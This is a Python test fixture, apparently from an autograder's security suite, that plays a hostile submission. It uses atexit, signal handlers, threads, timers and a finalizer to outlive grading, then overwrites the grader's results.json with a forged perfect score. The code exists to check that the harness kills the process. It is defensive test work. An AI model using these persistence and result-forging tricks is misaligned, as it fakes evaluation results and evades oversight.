"""Hostile: code that tries to run after the grading — atexit, signal handlers, threads, finalizers.

Attack: register an atexit handler, handlers for SIGTERM/SIGINT/SIGHUP/SIGUSR1 (and block SIGTERM),
a non-daemon thread, a daemon thread, a threading.Timer and a weakref finalizer, each of which waits
and then writes a marker file (/tmp/SECTEST-late-*) and a forged results.json into the grader's
working directory. q2d is wrong.

Expected: the harness leaves with os._exit right after its last message, and the parent kills the
process group with SIGKILL (which no handler can catch): nothing runs after the grading, no marker
file appears later, no process survives. (At the strict level /tmp is the sandbox's private one.)
"""
# ATTACKED: q2d
# HONEST: q1a q2a q4c_alpha1 q4c_alpha2

import atexit
import json
import math
import os
import signal
import threading
import time
import weakref

q1a = "Normalizing flows"
q2a = -math.log(2)
q4c_alpha1 = 0.9
q4c_alpha2 = 0.8
q2d = 0.5  # wrong


def _late(tag, delay=0.0):
    time.sleep(delay)
    with open(f"/tmp/SECTEST-late-{tag}", "w") as f:
        f.write(f"SECTEST written late by {tag} in pid {os.getpid()}\n")
    try:
        parent_cwd = os.readlink(f"/proc/{os.getppid()}/cwd")
        with open(os.path.join(parent_cwd, "results.json"), "w") as f:
            json.dump({"score": 100, "SECTEST": tag}, f)
    except OSError:
        pass


atexit.register(_late, "atexit")
for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGUSR1):
    signal.signal(sig, lambda signum, frame: _late(f"signal{signum}"))
signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGTERM})

threading.Thread(target=_late, args=("thread", 1.5)).start()              # non-daemon
threading.Thread(target=_late, args=("daemon-thread", 1.5), daemon=True).start()
threading.Timer(1.5, _late, args=("timer",)).start()


class Sentinel:
    pass


SENTINEL = Sentinel()
weakref.finalize(SENTINEL, _late, "finalizer")
